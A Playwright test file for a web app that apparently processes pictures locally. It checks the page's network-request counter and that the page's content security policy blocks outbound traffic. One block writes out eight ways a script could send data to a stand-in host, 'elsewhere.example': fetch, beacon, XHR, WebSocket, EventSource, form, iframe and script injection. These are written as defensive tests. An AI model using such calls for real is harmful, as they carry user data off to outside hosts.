/** What left the page since a picture came: counted by the browser, and nothing of the picture among it. */
import { expect, type Page } from 'playwright/test';
import { expectNoViolations } from '../support/axe.ts';
import { answerFor, expectNoOverflow, give, picturePath, test } from '../support/page.ts';

const line = (page: Page) => page.getByTestId('network');
const web = (urls: readonly string[]) => urls.filter((url) => url.startsWith('http'));

test('the first picture has the model fetched, a later one asks nothing of the network', async ({
  page,
  watched,
}) => {
  await give(page, picturePath('ship'));
  await answerFor(page, 'ship.png');
  await expect(line(page)).toContainText(/Network since this picture came: \d+ requests? to fetch files/);
  await line(page).locator('summary').click();
  await expect(line(page)).toContainText(/Since then: \d+ requests? for files of this page and its models/);
  await expect(line(page)).toContainText(/Before: \d+ requests? for files of this page/);
  await expectNoViolations(page);

  // The second one brings the list of this visit, whose code is fetched, with that of its thumbnails.
  await give(page, picturePath('automobile'));
  await answerFor(page, 'automobile.png');
  await expect(page.getByTestId('list-row').locator('img')).toHaveCount(2);
  await page.waitForLoadState('networkidle');
  const before = web(watched.requests).length;
  await give(page, picturePath('truck'));
  await answerFor(page, 'truck.png');
  await expect(line(page)).toHaveAttribute('data-requests', '0');
  await expect(line(page).locator('summary')).toHaveText(
    'Network since this picture came: 0 requests, nothing sent',
  );
  expect(web(watched.requests).slice(before)).toEqual([]);
  await page.setViewportSize({ width: 320, height: 740 });
  await page.emulateMedia({ colorScheme: 'dark' });
  await expectNoOverflow(page);
  await expectNoViolations(page);
});

test('what a worker asks for is counted as what the page asks for', async ({ page }) => {
  await give(page, picturePath('ship'));
  await answerFor(page, 'ship.png');
  const first = Number(await line(page).getAttribute('data-requests'));
  // Model and engine are fetched in the worker, and come in pieces of their own.
  expect(first).toBeGreaterThanOrEqual(3);
  await page.evaluate(() => fetch('./config.json?again'));
  await expect(line(page)).toHaveAttribute('data-requests', String(first + 1));
});

test.describe('a script that would send a picture elsewhere', () => {
  // Chromium tells of a request that its policy stopped, too; what counts is what arrives.
  test.use({ expectedErrors: [/.*/], expectedOutside: [/elsewhere\.example/] });

  const elsewhere = 'elsewhere.example';

  for (const [way, send] of [
    ['fetch', (host: string) => fetch(`https://${host}/`, { method: 'POST', body: 'x' })],
    ['a beacon', (host: string) => navigator.sendBeacon(`https://${host}/`, 'x')],
    [
      'XMLHttpRequest',
      (host: string) => {
        const request = new XMLHttpRequest();
        request.open('POST', `https://${host}/`);
        request.send('x');
      },
    ],
    ['a WebSocket', (host: string) => void new WebSocket(`wss://${host}/`)],
    ['an EventSource', (host: string) => void new EventSource(`https://${host}/`)],
    [
      'a form',
      (host: string) => {
        const form = document.body.appendChild(document.createElement('form'));
        Object.assign(form, { method: 'post', action: `https://${host}/`, target: '_blank' });
        form.submit();
      },
    ],
    [
      'a frame',
      (host: string) => {
        document.body.appendChild(document.createElement('iframe')).src = `https://${host}/`;
      },
    ],
    [
      'a script',
      (host: string) => {
        document.body.appendChild(document.createElement('script')).src = `https://${host}/`;
      },
    ],
  ] as const) {
    test(`by ${way} sends nothing`, async ({ page }) => {
      const sent: string[] = [];
      const isElsewhere = (url: URL) => url.hostname === elsewhere;
      await page.context().route(isElsewhere, (route) => {
        sent.push(route.request().url());
        return route.abort();
      });
      const refused = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', ({ blockedURI }) => resolve(blockedURI));
          }),
      );
      await page.evaluate(send as (host: string) => unknown, elsewhere).catch(() => {});
      expect(await refused).toContain(elsewhere);
      expect(sent).toEqual([]);
    });
  }
});
